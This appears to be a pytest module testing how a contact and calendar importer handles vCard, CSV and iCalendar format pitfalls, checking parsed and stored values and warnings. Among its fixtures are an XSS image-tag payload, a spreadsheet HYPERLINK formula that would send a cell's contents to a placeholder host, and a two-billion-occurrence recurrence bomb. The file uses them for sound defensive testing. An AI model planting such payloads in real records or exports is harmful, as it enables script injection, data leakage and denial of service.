"""Reliability checklist, part (b) "Format pitfalls": the nasty samples the parser tests
did not yet cover, and every mini-sample of part (b) (`data/checklist_b/`) imported end
to end, checking what is stored. `docs/checklist-imports.md` indexes these tests too."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from followthrough.events.models import Event
from followthrough.exchange.formats import registry
from followthrough.exchange.formats.records import EventRecord, PersonRecord
from followthrough.exchange.imports.loader import import_records
from followthrough.exchange.imports.result import ImportResult, ImportSource
from followthrough.people.models import ContactKind, Person

SAMPLES = Path(__file__).parent / "data" / "checklist_b"
BERLIN = ZoneInfo("Europe/Berlin")


pytestmark = pytest.mark.usefixtures("media_root")  # photos and uploads: a folder per test


def parse(fmt: str, data: str | bytes, **options: Any) -> list:
    raw = data.encode() if isinstance(data, str) else data
    return list(registry.parse(fmt, io.BytesIO(raw), registry.ParseOptions(**options)))


def import_bytes(workspace, fmt: str, data: str | bytes, **options: Any) -> ImportResult:
    raw = data.encode() if isinstance(data, str) else data
    return import_records(
        workspace=workspace,
        records=registry.parse(fmt, io.BytesIO(raw), registry.ParseOptions(**options)),
        source=ImportSource(fmt, "pitfall"),
    )


def card(*lines: str, version: str = "2.1") -> str:
    return "\r\n".join(["BEGIN:VCARD", f"VERSION:{version}", *lines, "END:VCARD"]) + "\r\n"


def calendar(*lines: str) -> str:
    event = ["BEGIN:VEVENT", "UID:p@example.org", "SUMMARY:Pitfall", *lines, "END:VEVENT"]
    return "\r\n".join(["BEGIN:VCALENDAR", "VERSION:2.0", *event, "END:VCALENDAR"]) + "\r\n"


# --- vCard -----------------------------------------------------------------------------


def test_vcard_2_1_quoted_printable_on_one_line_cyrillic():
    """owncloud-archive/contacts#807: QP without a soft break."""
    line = "FN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:=D0=9C=D0=B8=D1=82=D0=BA=D0=BE"
    (person,) = parse("vcard", card(line))
    assert person.full_name == "Митко"


def test_vcard_2_1_quoted_printable_label_continued_without_leading_space(workspace):
    """sabre-io/dav#1005: a Lenovo phone's QP LABEL goes on in a line with no leading
    space; the card around it must still be read (LABEL itself is not kept)."""
    data = card(
        "N;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:M=C3=BCller;J=C3=BCrgen;;;",
        "LABEL;HOME;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:Domstra=C3=9Fe 1=0D=0A=",
        "50667 K=C3=B6ln=0D=0A=",
        "Deutschland",
        "TEL;CELL:+49 221 555",
        "EMAIL;INTERNET:j@example.de",
    )
    import_bytes(workspace, "vcard", data)
    jurgen = Person.objects.get()
    assert (jurgen.first_name, jurgen.last_name) == ("Jürgen", "Müller")
    points = set(jurgen.contact_points.values_list("kind", "value"))
    assert points == {(ContactKind.PHONE, "+49 221 555"), (ContactKind.EMAIL, "j@example.de")}


@pytest.mark.parametrize("indent", ["  ", ""], ids=["outlook-indented", "rfc822-folded"])
def test_vcard_2_1_outlook_x_ms_cardpicture_base64(indent):
    """libical/libical#339 and FolkerKinzel/VCards#2: Outlook's 2.1 X-MS-CARDPICTURE is
    base64 on lines of their own (indented, or not at all), ended by a blank line."""
    payload = "/9j/4AAQSkZJRgABAQEAYABgAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRofHh0a" * 3
    lines = [indent + payload[i : i + 76] for i in range(0, len(payload), 76)]
    (person,) = parse(
        "vcard",
        card(
            "N:Lovelace;Ada",
            "FN:Ada Lovelace",
            "X-MS-CARDPICTURE;TYPE=JPEG;ENCODING=BASE64:",
            *lines,
            "",
            "EMAIL;PREF;INTERNET:ada@example.com",
        ),
    )
    assert (person.full_name, person.emails) == ("Ada Lovelace", ["ada@example.com"])


def test_vcard_2_1_without_charset_holding_utf8_is_read_as_utf8():
    """kewisch/ical.js#389: 2.1's CHARSET defaults to ASCII, but phones write UTF-8."""
    (person,) = parse("vcard", card("N:Müller;Jürgen", "ORG:Фонд «Добро»"))
    assert (person.first_name, person.last_name, person.organization) == (
        "Jürgen",
        "Müller",
        "Фонд «Добро»",
    )


def test_vcard_re_saved_as_iso_8859_1_keeps_its_umlauts():
    """nextcloud/server#14830: a UTF-8 vcf re-saved on Windows as ISO-8859-1."""
    text = card("N:Weiß;Jörg;;;", "FN:Jörg Weiß", "NOTE:Grüße aus Köln", version="3.0")
    assert parse("vcard", text.encode("iso-8859-1")) == parse("vcard", text)


# --- iCalendar -------------------------------------------------------------------------


def test_ics_exdate_and_rdate_with_tzid_are_warned_about_not_dropped_silently(workspace):
    """python-recurring-ical-events#27/#20, khal#228: EXDATE/RDATE with a TZID."""
    data = calendar(
        "DTSTART;TZID=Europe/Berlin:20240304T090000",
        "RRULE:FREQ=WEEKLY;COUNT=10",
        "EXDATE;TZID=Europe/Berlin:20240311T090000,20240318T090000",
        "RDATE;TZID=Europe/Berlin:20240320T090000",
    )
    (record,) = parse("ics", data)
    assert record.starts_at == datetime(2024, 3, 4, 9, 0, tzinfo=BERLIN)
    assert record.rrule == "FREQ=WEEKLY;COUNT=10"
    assert record.warnings == [
        "EXDATE (dates added to or taken out of the series) is not kept",
        "RDATE (dates added to or taken out of the series) is not kept",
    ]
    result = import_bytes(workspace, "ics", data)
    assert Event.objects.get().rrule == "FREQ=WEEKLY;COUNT=10"
    assert len(result.warnings) == 2  # shown to the user with the import's counts


def test_ics_rrule_until_in_utc_with_a_local_dtstart_is_kept_as_given(workspace):
    """Jorricks/iCal-library#8, ical.js#257: UNTIL in UTC while DTSTART is local time."""
    data = calendar(
        "DTSTART;TZID=America/New_York:20240301T090000",
        "DTEND;TZID=America/New_York:20240301T100000",
        "RRULE:FREQ=WEEKLY;UNTIL=20240329T130000Z",
    )
    (record,) = parse("ics", data)
    assert record.starts_at == datetime(2024, 3, 1, 9, 0, tzinfo=ZoneInfo("America/New_York"))
    assert (record.rrule, record.warnings) == ("FREQ=WEEKLY;UNTIL=20240329T130000Z", [])
    import_bytes(workspace, "ics", data)
    event = Event.objects.get()
    assert (event.rrule, event.time_zone) == (record.rrule, "America/New_York")


def test_ics_exchange_all_day_series_with_a_date_exdate(workspace):
    """jens-maus/node-ical#456: Exchange's all-day EXDATE (VALUE=DATE)."""
    data = calendar(
        "DTSTART;VALUE=DATE:20240101",
        "DTEND;VALUE=DATE:20240102",
        "RRULE:FREQ=DAILY;COUNT=5",
        "EXDATE;VALUE=DATE:20240103",
    )
    (record,) = parse("ics", data)
    assert isinstance(record, EventRecord) and record.all_day
    assert record.warnings == ["EXDATE (dates added to or taken out of the series) is not kept"]
    import_bytes(workspace, "ics", data)
    assert Event.objects.get().all_day


# --- Every mini-sample of part (b), imported -------------------------------------------


def _people(workspace) -> list[Person]:
    return list(Person.objects.filter(workspace=workspace).order_by("pk"))


def _one_person(workspace) -> Person:
    (person,) = _people(workspace)
    return person


def _values(person: Person, kind: str) -> list[str]:
    return list(person.contact_points.filter(kind=kind).values_list("value", flat=True))


def _photo_bytes(person: Person) -> bytes:
    with person.photo.open("rb") as photo:
        return photo.read()


def _event(workspace) -> Event:
    (event,) = Event.objects.filter(workspace=workspace)
    return event


EXPECTED: dict[str, tuple[str, dict, Callable[[Any], Any]]] = {
    # file: (format, parser options, check of what the workspace holds afterwards)
    "vcard_2.1_qp_soft_break.vcf": (
        "vcard",
        {},
        lambda ws: _one_person(ws).full_name == "Wollknäuel EP",
    ),
    "vcard_2.1_qp_cyrillic.vcf": (
        "vcard",
        {},
        lambda ws: (
            (_one_person(ws).full_name, _values(_one_person(ws), ContactKind.PHONE))
            == ("Митко Колчаков", ["+12311111"])
        ),
    ),
    "vcard_3.0_google_photo_url_continued.vcf": (
        "vcard",
        {},
        lambda ws: (
            (_one_person(ws).full_name, bool(_one_person(ws).photo)) == ("Ada Lovelace", False)
        ),  # a photo URL is never fetched
    ),
    "vcard_3.0_photo_encoding_b_data_uri.vcf": (
        "vcard",
        {},
        lambda ws: _photo_bytes(_one_person(ws)).startswith(b"\x89PNG"),
    ),
    "vcard_4.0_data_uri_photo.vcf": (
        "vcard",
        {},
        # The checklist's JPEG is only a header: the person comes in, the photo not.
        lambda ws: (_one_person(ws).full_name, bool(_one_person(ws).photo)) == ("P", False),
    ),
    "vcard_apple_dquote_parameter.vcf": (
        "vcard",
        {},
        lambda ws: (
            _values(_one_person(ws), ContactKind.ADDRESS) == ["Odos 1, Thessaloniki, 54621, Greece"]
        ),
    ),
    "vcard_bday_no_year.vcf": (
        "vcard",
        {},
        lambda ws: (
            (
                _one_person(ws).birthday_month,
                _one_person(ws).birthday_day,
                _one_person(ws).birthday_year,
            )
            == (4, 15, None)
        ),
    ),
    "vcard_utf8_bom.vcf": (
        "vcard",
        {},
        lambda ws: (_one_person(ws).first_name, _one_person(ws).last_name) == ("Zoë", "Château"),
    ),
    "vcard_lf_only.vcf": (
        "vcard",
        {},
        lambda ws: _values(_one_person(ws), ContactKind.EMAIL) == ["lena@example.org"],
    ),
    "vcard_html_and_formula.vcf": (
        "vcard",
        {},
        # Stored verbatim: escaping on output is the pages' and the exports' job (D1, D6).
        lambda ws: (
            (_one_person(ws).full_name, _one_person(ws).notes)
            == ("<img src=x onerror=alert(1)>", '=HYPERLINK("http://x/?"&A1,"c")')
        ),
    ),
    "csv_linkedin_preamble.csv": (
        "linkedin",
        {},
        lambda ws: (
            (
                _one_person(ws).full_name,
                _one_person(ws).affiliations.get().organization.name,
                _one_person(ws).affiliations.get().role,
            )
            == ("Ada Lovelace", "Analytical Engines", "Founder")
        ),
    ),
    "csv_excel_cp1252_semicolon.csv": (
        "outlook",
        {},
        lambda ws: (
            (_one_person(ws).full_name, _values(_one_person(ws), ContactKind.EMAIL))
            == ("Jürgen Müller", ["j@example.de"])
        ),
    ),
    "csv_google_utf16le_bom.csv": (
        "google",
        {},
        lambda ws: (
            (
                _one_person(ws).full_name,
                _values(_one_person(ws), ContactKind.EMAIL),
                [t.name for t in _one_person(ws).tags.all()],
            )
            == ("Ada Lovelace", ["ada@example.com", "ada2@example.com"], ["Work"])
        ),
    ),
    "csv_formula_and_multiline_note.csv": (
        "csv",
        {"mapping": {"name": "full_name", "note": "notes"}},
        lambda ws: (
            (_one_person(ws).full_name, _one_person(ws).notes)
            == ('=HYPERLINK("http://x/?"&A1,"c")', "line1\nline2")
        ),
    ),
    "ics_windows_tzid.ics": (
        "ics",
        {},
        lambda ws: (
            (_event(ws).starts_at, _event(ws).time_zone)
            == (datetime(2020, 3, 5, 9, 0, tzinfo=BERLIN), "Europe/Berlin")
        ),
    ),
    "ics_unknown_tzid.ics": (
        "ics",
        {"time_zone": "Europe/Berlin"},  # the organisation's zone, by policy
        lambda ws: (
            (_event(ws).starts_at, _event(ws).time_zone)
            == (datetime(2024, 7, 10, 16, 0, tzinfo=BERLIN), "Europe/Berlin")
        ),
    ),
    "ics_dst_gap.ics": (
        "ics",
        {},
        lambda ws: _event(ws).starts_at == datetime(2024, 3, 31, 3, 30, tzinfo=BERLIN),
    ),
    "ics_recurrence_bomb.ics": (
        "ics",
        {},
        lambda ws: _event(ws).rrule == "FREQ=SECONDLY;COUNT=2000000000",
    ),
}
WARNED = {
    "ics_unknown_tzid.ics": "the time zone “Mars/Olympus_Mons” is unknown",
    "ics_dst_gap.ics": "does not exist in Europe/Berlin",
    "ics_recurrence_bomb.ics": "the series has 2,000,000,000 occurrences",
    "vcard_4.0_data_uri_photo.vcf": "photo left out",
}


def test_every_checklist_b_sample_has_an_expected_outcome():
    samples = {p.name for p in SAMPLES.iterdir() if p.suffix in (".vcf", ".csv", ".ics")}
    assert samples - {"vcard_missing_end.vcf"} == set(EXPECTED)  # that one: test_checklist_e


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_checklist_b_sample_is_stored_as_expected(workspace, name):
    fmt, options, check = EXPECTED[name]
    result = import_bytes(workspace, fmt, (SAMPLES / name).read_bytes(), **options)
    assert result.created >= 1
    assert check(workspace)
    if name in WARNED:  # whatever the importer decided for the user is said
        assert any(WARNED[name] in warning for warning in result.warnings), result.warnings
    else:
        assert result.warnings == []
    records = parse(fmt, (SAMPLES / name).read_bytes(), **options)
    assert all(isinstance(r, PersonRecord | EventRecord) for r in records)
